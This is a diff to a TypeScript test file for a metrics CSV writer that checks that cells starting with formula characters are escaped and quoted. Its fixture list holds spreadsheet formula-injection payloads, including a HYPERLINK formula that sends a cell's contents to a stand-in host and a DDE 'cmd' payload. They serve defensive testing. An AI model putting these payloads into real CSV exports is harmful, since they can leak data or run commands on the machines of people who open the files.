@@ -1,4 +1,6 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { judgmentsCsv } from '../../../src/lib/io/index.ts';
 import { computePolluxMetrics } from '../../../src/lib/pollux/index.ts';
 import { computeReport, metricsCsv, pyFloatRepr } from '../../../src/lib/metrics/index.ts';
 import { EXPECTED_CSV, INSTRUCTIONS, SCORES, runJudgments } from './fixtures/small-run.ts';
@@ -50,5 +52,36 @@ describe('metrics.csv golden (metrics.py layout and numbers)', () => {
     // P5's "Только нужная информация" = 1 is no longer a gate; P4 still fails the critical gate.
     expect(m.matrix['Только нужная информация']['ИИ как персонаж']).toBe(1);
     expect(m.matrix['Креативность']['Creative Generation']).toBe(0.5);
+  });
+});
+
+describe('metrics.csv cells that a spreadsheet would run as formulas', () => {
+  const hostile = ['=HYPERLINK("http://x/?"&A1,"ok")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1', '-2+3', '\tTab', '\rCR', '=multi\nline'];
+
+  it('are written with a leading apostrophe and quoted, exactly as the judgments CSV writes them', () => {
+    const matrix = Object.fromEntries(hostile.map((name, i) => [name, { '=meta': i - 3 }]));
+    const csv = metricsCsv({ matrix, mean_over_meta: {}, mean_over_criteria: { '=meta': -0.5 }, grand_mean: -0.25 });
+    const rows = Papa.parse<string[]>(csv.trimEnd(), { newline: '\n' }).data;
+    expect(rows[0]).toEqual(['criteria_name', "'=meta", 'mean_over_meta']);
+    const judgments = Papa.parse<string[]>(
+      judgmentsCsv(hostile.map((criteria_name, i) => ({ runId: 'r', jobId: `${i}`, prompt_id: i, criteria_name, rubrics: '', raw: '', status: 'pending', outcome: null, cached: false, attempts: 0, prompt: '' }))).trimEnd(),
+      { newline: '\r\n' },
+    ).data.slice(1);
+    const sorted = [...hostile].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+    sorted.forEach((name, i) => {
+      expect(rows[i + 1][0]).toBe(`'${name}`);
+      // The same cell text as the judgments CSV gives the same name.
+      expect(rows[i + 1][0]).toBe(judgments[hostile.indexOf(name)][1]);
+    });
+    // Numbers are never touched: a negative mean stays a number.
+    expect(rows[1][1]).toBe(String(hostile.indexOf(sorted[0]) - 3) + '.0');
+    expect(csv.trimEnd().split('\n').at(-1)).toBe('mean_over_criteria,-0.5,-0.25');
+    // Quoted where defused: the raw line starts with a quote.
+    expect(csv.split('\n')[0]).toBe(`criteria_name,"'=meta",mean_over_meta`);
+  });
+
+  it('leaves POLLUX-like names as pandas writes them', () => {
+    const csv = metricsCsv({ matrix: { 'Грамотность, стиль': { QA: 1 }, 'e-mail': { QA: 0.5 } }, mean_over_meta: {}, mean_over_criteria: {}, grand_mean: null });
+    expect(csv).toBe('criteria_name,QA,mean_over_meta\ne-mail,0.5,\n"Грамотность, стиль",1.0,\nmean_over_criteria,,\n');
   });
 });
